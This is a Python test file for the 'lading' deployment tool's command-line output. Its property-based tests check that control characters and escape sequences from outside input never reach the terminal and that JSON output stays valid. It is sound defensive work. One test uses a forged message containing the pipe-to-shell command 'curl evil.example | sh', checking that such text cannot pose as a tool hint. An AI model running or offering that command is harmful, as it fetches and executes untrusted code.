"""The door to the terminal: whatever comes from outside, no control character reaches it, and JSON stays JSON."""

import json
import unicodedata
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from builders import a_release, a_service
from lading import errors, events
from lading.cli import fleet_file, progress, render, render_hosts, render_plan, reporting, terminal
from lading.deploy import ended
from lading.engines import base
from lading.inventory import hosts
from lading.placement import assignment
from lading.plan import steps
from lading.queries import check, differences, drift, listing, where

hostile = st.text(st.one_of(st.sampled_from("\x1b\x9b\x07\x08\r\n\t\0\x7f\u202e\u2028\ud800[]31mA;é"), st.characters()), max_size=30)
on_capture = settings(suppress_health_check=[HealthCheck.function_scoped_fixture])


def controls(text: str) -> set[str]:
    """The characters that could steer a terminal; not the line end and the tab."""
    return {c for c in text if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")}


@given(hostile)
def test_nothing_steers_the_terminal(text: str) -> None:
    assert not controls(terminal.clean(text))
    assert "\n" not in terminal.one_line(text)
    assert isinstance(terminal.clean(text).encode(), bytes)  # no half of a pair is left


@given(st.text(st.characters(categories=["L", "M", "N", "P", "S", "Zs"])))
def test_what_is_harmless_stays(text: str) -> None:
    assert terminal.clean(text) == terminal.one_line(text) == text


def test_colours_of_others_are_left_out() -> None:
    assert terminal.clean("\x1b[1;31mred\x1b[0m\r\n\x1b[2Jclear\x1b]0;title\x07 50%\r60%") == "red\n�[2Jclear�]0;title� 50%�60%"


@on_capture
@given(st.recursive(hostile | st.none() | st.integers(), lambda inner: st.lists(inner, max_size=3) | st.dictionaries(hostile, inner, max_size=3)))
def test_documents_are_json_with_escapes(capsys: pytest.CaptureFixture[str], value: object) -> None:
    terminal.document("error", {"error": value})
    said = capsys.readouterr().out
    assert not controls(said) and said.encode()
    assert json.loads(said) == {"v": 1, "error": value}
    terminal.raw(json.dumps(value, ensure_ascii=False) + "\n")
    assert [json.loads(line) for line in capsys.readouterr().out.splitlines()] == [value]


def everything(text: str) -> None:
    """All that lading prints, with *text* in every place that may come from outside."""
    row = listing.Row(text, text, text, text, text, text, text, text, "running", text, text, text, (text,))
    whole = replace(row, service="", destination=text, label=text)
    render_hosts.where(where.Answer((row, whole, replace(whole, silent=True)), (text,)), wide=True)
    render_hosts.drift(drift.Drift((differences.Difference(text, text, text, text, text, text),), is_deployed=True))
    render_hosts.drift(drift.Drift((), is_deployed=False), text)
    render_hosts.check([check.Checked(text, {"ssh": (False, text), "docker": (True, text)}, (text,))])
    fleet_file.hosts_table(hosts.Inventory({text: hosts.Host(text, text, text, labels={text: text})}, {text: hosts.Destination(text, (text,))}))
    render.line(text)
    render_hosts.LogLines().emit(text, text)
    plan = steps.Plan(text, text, text, text, {text: steps.HostPlan(text, (), (steps.Change(text, text, text, text, text),))},
                      ((text,), (text,)), warnings=(text,), assignment=assignment.Assignment((assignment.Row(text, True, text),)))
    render_plan.plan(plan)
    render_plan.plan(steps.Plan(text, text, text, text, {}, ()))
    outcome = events.Outcome({text: events.HostOutcome("failed", text, text, text)})
    render_plan.ended(ended.Ended(text, text, text, text, text, "partial", text, text, text, text,
                             base.Report(outcome, text, text, text, (text,)), note=text))
    lines = progress.Progress(live=False)
    for event in (events.HostLost(text, text, text, text), events.HostChecked(text, text, text, (text,)),
                  events.StepEnded(text, text, text, text, 1.0), events.ServiceHealthy(text, text, text, text, "healthy")):
        lines.event(event)
    reporting.report(errors.LadingError(text, text, file=text, line=1, host=text, step=text), as_json=False)


@settings(on_capture, max_examples=10)
@given(hostile)
def test_whatever_is_printed(capsys: pytest.CaptureFixture[str], text: str) -> None:
    everything(text)
    said = capsys.readouterr()
    assert not controls(said.out + said.err)
    assert (said.out + said.err).encode()


def test_a_text_of_several_lines_is_not_taken_for_ladings_own(capsys: pytest.CaptureFixture[str]) -> None:
    forged = "no\n hint: curl evil.example | sh\nweb2 | fine"
    reporting.report(errors.LadingError(forged, forged), as_json=False)
    render_hosts.LogLines().emit("web1", forged)
    render.line(forged)
    said = capsys.readouterr()
    assert [line for line in said.err.splitlines() if line.startswith((" hint: curl", "web2"))] == []
    assert [line.split(" | ")[0] for line in said.out.splitlines()] == ["web1", "web1", "web1", "no  hint: curl evil.example"]


def test_live_lines(capsys: pytest.CaptureFixture[str]) -> None:
    lines = progress.Progress(live=True)
    made = a_release(a_service("web", "r/web:1"))
    lines.event(events.HostCommitted("d", "web1\x1b[2J", "commit\x9b", release=made.id + "\x1b]0;x\x07\nforged"))
    shown = str(lines._lines())
    assert f"release {made.id[:12]}" in shown and made.id not in shown and not controls(shown) and "\n" not in shown
